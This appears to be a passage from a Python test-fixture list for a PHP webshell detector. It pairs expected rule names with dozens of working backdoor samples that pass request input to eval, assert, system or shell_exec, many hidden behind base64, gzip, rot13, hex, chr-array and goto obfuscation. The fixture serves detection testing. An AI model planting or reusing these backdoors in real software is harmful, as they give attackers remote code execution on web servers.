        "<?php $OO0O0O = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65');\n$O0O0O0 = $OO0O0O{0}.$OO0O0O{1}.$OO0O0O{2}.$OO0O0O{3}.$OO0O0O{4}.$OO0O0O{5}.$OO0O0O{6}.$OO0O0O{7}.$OO0O0O{8}.$OO0O0O{9}.$OO0O0O{10}.$OO0O0O{11}.$OO0O0O{12};\neval($O0O0O0('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n",
    ),
    # b:eval_closetag_var_far
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$d = 'eNpzKK4sLknN1VCJd3cNiVZKVorVtFZITc7IV1DKz1ayBgCgHwls';\n?>\n<html><head><title>Site</title></head><body>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>\n<p>Lorem ipsum dolor sit amet, consectetur adip\n<?php eval(\"?>\".gzuncompress(base64_decode($d))); ?>\n",
    ),
    # b:globals_payload
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$GLOBALS['payload'] = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval(gzinflate(base64_decode($GLOBALS['payload'])));\n",
    ),
    # b:str_split_implode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$arr = str_split('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==', 8);\neval(base64_decode(implode($arr)));\n",
    ),
    # b:strtr_custom
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php eval(base64_decode(strtr('QHN5Z3RlYSgka0dFVFsibyJdKTsgcWNoYyAiY2siOw==', 'XYZabc', 'abcXYZ')));\n",
    ),
    # b:str_replace_blob
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php eval(gzinflate(base64_decode(str_replace(' ', '', 'cyiuLC 5JzdVQ iXd3DY lWSlaK 1bRWSE 3OyFdQ ys9Wsg YA'))));\n",
    ),
    # b:hexvars_names
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        '<?php\n$_0 = "\\x67\\x7a\\x69\\x6e\\x66\\x6c\\x61\\x74\\x65";\n$_1 = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\neval($_0($_1(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\')));\n',
    ),
    # b:preg_cb_closure
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php preg_replace_callback('/.+/', function($m) { return eval($m[0]); }, $_POST['c']);\n",
    ),
    # b:array_walk_closure
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php array_walk($_POST, function($v, $k) { if ($k == 'x') { eval($v); } });\n",
    ),
    # b:usort_create_fn
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php\n$arr = array(1, 2);\nusort($arr, create_function('$a,$b', $_POST['c']));\n",
    ),
    # b:ob_start_assert
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "<?php\nob_start('assert');\necho $_POST['x'];\nob_end_flush();\n",
    ),
    # b:shutdown_closure
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php register_shutdown_function(function() { eval($_POST['x']); });\n",
    ),
    # b:helper_two_args
    (
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        "SPAMGEAR_BACKDOOR_SinkNameBesideInput",
        "<?php\nfunction ex($a, $b) { return $a($b); }\nex('system', $_GET['c']);\n",
    ),
    # b:helper_later_var
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\nfunction run($c) { @eval($c); }\n$in = $_POST['code'];\nrun($in);\n",
    ),
    # b:static_method
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\nclass X { static function r($c) { eval($c); } }\nX::r($_POST['c']);\n",
    ),
    # b:and_post
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "<?php $_POST['a'] and eval($_POST['a']);\n",
    ),
    # b:empty_and_assert
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "<?php !empty($_COOKIE['k']) && @assert(base64_decode($_COOKIE['k']));\n",
    ),
    # b:apache_headers_system
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "<?php\nforeach (apache_request_headers() as $h => $v) {\n    if (stripos($h, 'x-') === 0) { @system($v); }\n}\n",
    ),
    # b:cookie_loop_call
    (
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "<?php foreach ($_COOKIE as $k => $v) { $k($v); }\n",
    ),
    # b:extract_and_call
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\nextract($_GET);\n$x && $y($x);\n",
    ),
    # b:extract_overwrite
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\nextract($_POST, EXTR_OVERWRITE);\n$func($param);\n",
    ),
    # b:curly_spaced_req
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        "<?php ${'_' . 'REQUEST'}['f'](${'_' . 'REQUEST'}['p']);\n",
    ),
    # b:curly_cookie_alias
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$s = ${'_'.'COOKIE'};\neval(base64_decode($s['d']));\n",
    ),
    # b:globals_concat
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "<?php eval($GLOBALS['_'.'POST']['x']);\n",
    ),
    # b:varvar_name_eval
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "SPAMGEAR_OBFUSC_SplitSuperglobalName",
        "<?php\n$v = '_' . 'GET';\neval(${$v}['c']);\n",
    ),
    # b:goto_shell
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "<?php\ngoto x9;\nk2: $c = $_REQUEST['c']; goto m3;\nx9: $o = ''; goto k2;\nm3: $o = shell_exec($c); goto z1;\nz1: echo $o;\n",
    ),
    # b:goto_literal
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "<?php\ngoto a;\nb: eval($s); goto c;\na: $s = gzinflate(base64_decode('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')); goto b;\nc: echo '';\n",
    ),
    # b:O0_concat_names
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$O0O = 'str_'.'rot13';\n$OO0 = 'base64_'.'decode';\neval($O0O($OO0('QGZsZmdyeigkX1RSR1sicCJdKTsgcnB1YiAiYngiOw==')));\n",
    ),
    # b:implode_letters
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$n = implode('', array('a','s','s','e','r','t'));\n$n($_POST['x']);\n",
    ),
    # b:rot13_name
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$n = str_rot13('nffreg');\n$n(stripslashes($_REQUEST['x']));\n",
    ),
    # b:b64_name
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$n = base64_decode('c3lzdGVt');\n$n($_GET['c']);\n",
    ),
    # b:hex2bin_name
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$n = hex2bin('73797374656d');\n@$n($_GET['c']);\n",
    ),
    # b:pack_name
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$n = pack('H*', '617373657274');\n$n($_POST['x']);\n",
    ),
    # b:array_map_req
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "<?php array_map($_GET['f'], array($_GET['a']));\n",
    ),
    # b:cuf_req
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "<?php call_user_func($_REQUEST['f'], $_REQUEST['a']);\n",
    ),
    # b:array_filter_cbvar
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        "SPAMGEAR_INPUT_InputCallbackVar",
        "SPAMGEAR_INPUT_InputCallbackVar",
        "<?php\n$cb = $_GET['cb'];\n$arr = array($_GET['a']);\narray_filter($arr, $cb);\n",
    ),
    # b:escaped_eval_code
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php eval(\"\\x65\\x76\\x61\\x6c(\\$_POST['x']);\");\n",
    ),
    # b:octal_eval_code
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        '<?php eval("\\145\\166\\141\\154(base64_decode(\\$_REQUEST[z]));");\n',
    ),
    # b:hex_create_fn
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = \"\\x63\\x72\\x65\\x61\\x74\\x65\\x5f\\x66\\x75\\x6e\\x63\\x74\\x69\\x6f\\x6e\";\n$g = $f('', $_POST['x']);\n$g();\n",
    ),
    # b:concat_create_fn4
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        '<?php\n$x = "cr" . "eat" . "e_fun" . "ction";\n$y = $x(\'$a\', $_REQUEST[\'c\']);\n$y(1);\n',
    ),
    # b:closure_use
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$c = $_GET['c'];\n$run = function() use ($c) { return shell_exec($c); };\necho $run();\n",
    ),
    # b:ternary_eval
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php isset($_POST['e']) ? eval($_POST['e']) : null;\n",
    ),
    # b:if_oneline_b64
    (
        "SPAMGEAR_EVASION_AltInputToSink",
        "SPAMGEAR_EVASION_AltInputToSink",
        "SPAMGEAR_EVASION_AltInputToSink",
        "<?php if (!empty($_SERVER['HTTP_X_TOKEN'])) @eval(base64_decode($_SERVER['HTTP_X_TOKEN']));\n",
    ),
    # b:reflection_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php\n$r = new ReflectionFunction(base64_decode('c3lzdGVt'));\n$r->invoke($_GET['c']);\n",
    ),
    # b:array_reduce_cb
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        "<?php array_reduce(array($_POST['x']), 'assert');\n",
    ),
    # b:iterator_closure
    (
        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
        "SPAMGEAR_EVASION_EvalOfStoredOrStreamed",
        "<?php iterator_apply($it = new ArrayIterator(array($_POST['x'])), function() use (&$it) { eval($it->current()); return false; }, array());\n",
    ),
    # b:uasort_req_cb
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "<?php\n$d = array($_REQUEST['a'] => 1, 'b' => 2);\nuasort($d, $_REQUEST['f']);\n",
    ),
    # c:strrev_names_vars
    (
        "SPAMGEAR_OBFUSC_ReversedSinkStrong",
        "SPAMGEAR_OBFUSC_ReversedSinkStrong",
        "SPAMGEAR_OBFUSC_ReversedSinkStrong",
        '<?php\n$payload = \'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\';\n$a = strrev("edoced_46esab");\n$b = strrev("etalfnizg");\n$c = $b($a($payload));\neval($c);\n',
    ),
    # c:halt_compiler
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\neval(gzinflate(substr(file_get_contents(__FILE__), __COMPILER_HALT_OFFSET__)));\n__halt_compiler();s(®,.IÍÕP\x89ww\r\x89VJV\x8aÕ´VHMÎÈWPÊÏV²\x06\x00",
    ),
    # c:input_body_gz
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$x = file_get_contents('php://input');\n$y = gzinflate($x);\neval($y);\n",
    ),
    # c:concat_decoder_input
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        '<?php\n$s = "base" . "64_decode";\n$t = $s($_POST[\'x\']);\neval($t);\n',
    ),
    # c:dq_append
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        '<?php\n$f = "ass";\n$f .= "ert";\n$f($_POST[\'x\']);\n',
    ),
    # c:implode_var
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$m = array('sys', 'tem');\n$f = implode($m);\n$f($_GET['c']);\n",
    ),
    # c:hex_shell_exec_echo
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$x = \"\\x73\\x68\\x65\\x6c\\x6c\\x5f\\x65\\x78\\x65\\x63\";\necho $x($_POST['c']);\n",
    ),
    # c:explode_implode
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$pieces = explode(',', 'a,s,s,e,r,t');\n$f = implode('', $pieces);\n$f($_POST['z']);\n",
    ),
    # c:ob_start_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php\nob_start(base64_decode('YXNzZXJ0'));\necho $_POST['x'];\nob_end_flush();\n",
    ),
    # c:error_handler_cf
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php\nset_error_handler(create_function('', $_POST['x']));\ntrigger_error('x');\n",
    ),
    # c:array_map_concat_cast
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "<?php array_map('ass'.'ert', (array) $_REQUEST['c']);\n",
    ),
    # c:array_elem_map
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$arr = ['system'];\narray_map($arr[0], [$_GET['c']]);\n",
    ),
    # c:cuf_concat
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "<?php\n$cb = 'sys' . 'tem';\ncall_user_func($cb, $_GET['c']);\n",
    ),
    # c:iife
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php (function($c) { eval($c); })($_POST['x']);\n",
    ),
    # c:cuf_closure_direct
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php call_user_func(function() { eval($_REQUEST['x']); });\n",
    ),
    # c:arrow_fn_var
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$f = fn($c) => eval($c);\n$f($_POST['x']);\n",
    ),
    # c:arrow_fn_map
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php array_map(fn($c) => system($c), [$_GET['c']]);\n",
    ),
    # c:helper_two_stmt
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\nfunction x($a) { $b = base64_decode($a); eval($b); }\nx($_POST['k']);\n",
    ),
    # c:server_loop_noblock
    (
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "<?php foreach ($_SERVER as $k => $v) if (substr($k, 0, 7) == 'HTTP_X_') { @system($v); }\n",
    ),
    # c:each_loop
    (
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "<?php while (list($k, $v) = each($_POST)) { $k($v); }\n",
    ),
    # c:goto_cf
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "<?php\ngoto q;\nw: $g = create_function('', $b); goto e;\nq: $b = base64_decode($_POST['b']); goto w;\ne: $g();\n",
    ),
    # c:O0_var_nest
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$O0O0 = 'gzinflate'; $OO00 = 'base64_decode'; $O00O = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval($O0O0($OO00($O00O)));\n",
    ),
    # c:underscore_concat
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$_ = 'as'.'s'.'e'.'r'.'t';\n$_($_POST['_']);\n",
    ),
    # c:underscore_vars
    (
        "SPAMGEAR_EVASION_UnderscoreVarCall",
        "SPAMGEAR_EVASION_UnderscoreVarCall",
        "SPAMGEAR_EVASION_UnderscoreVarCall",
        "<?php\n$__ = $_POST['a'];\n$___ = $_POST['b'];\n$__($___);\n",
    ),
    # c:string_literal_call
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "<?php (\"\\x73\\x79\\x73\\x74\\x65\\x6d\")($_GET['c']);\n",
    ),
    # c:paren_concat_call
    (
        "SPAMGEAR_INPUT_TinyCallbackOfInput",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "<?php ('sys'.'tem')($_GET['c']);\n",
    ),
    # c:b64_var_name
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php\n$x = 'c3lzdGVt';\n$f = base64_decode($x);\n$f($_GET['c']);\n",
    ),
    # c:chr_array_eval
    (
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "<?php eval(implode('', array_map('chr', array(64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59))));\n",
    ),
    # c:chr_explode_eval
    (
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "<?php eval(join(array_map('chr', explode(',', '64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59'))));\n",
    ),
    # c:chr_loop_eval
    (
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "SPAMGEAR_OBFUSC_ChrMapEval",
        "<?php\n$code = '';\nforeach (array(64,115,121,115,116,101,109,40,36,95,71,69,84,91,34,99,34,93,41,59,32,101,99,104,111,32,34,111,107,34,59) as $c) $code .= chr($c);\neval($code);\n",
    ),
    # c:rot13_literal_eval
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        '<?php eval(str_rot13(\'@flfgrz($_TRG["p"]); rpub "bx";\'));\n',
    ),
    # c:strrev_literal_assert
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php assert(strrev(';)]\"x\"[TSOP_$(lave'));\n",
    ),
    # c:interp_modifier
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php\n$e = 'e';\npreg_replace(\"/x/$e\", $_POST['c'], 'x');\n",
    ),
    # c:preg_filter_e
    (
        "SPAMGEAR_INPUT_PregReplaceEval",
        "SPAMGEAR_INPUT_PregReplaceEval",
        "SPAMGEAR_INPUT_PregReplaceEval",
        "<?php preg_filter('/x/e', $_POST['c'], 'x');\n",
    ),
    # c:cookie_chain
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$a = $_COOKIE;\n$b = $a['x'];\n$c = base64_decode($b);\neval($c);\n",
    ),
    # c:array_keys_call
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$k = array_keys($_GET)[0];\n$k($_GET[$k]);\n",
    ),
    # c:array_values_call
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n$arr = array_values($_POST);\n$arr[0]($arr[1]);\n",
    ),
    # c:cufa_cast
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "<?php call_user_func_array($_POST['f'], (array) $_POST['a']);\n",
    ),
    # c:data_include_input
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        "<?php include('data://text/plain;base64,' . $_POST['x']);\n",
    ),
    # c:cf_5_pieces
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$c = 'cr'.'eat'.'e_f'.'unc'.'tion';\n$d = $c('', $_POST['x']);\n$d();\n",
    ),
    # c:strtr_blob_far
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
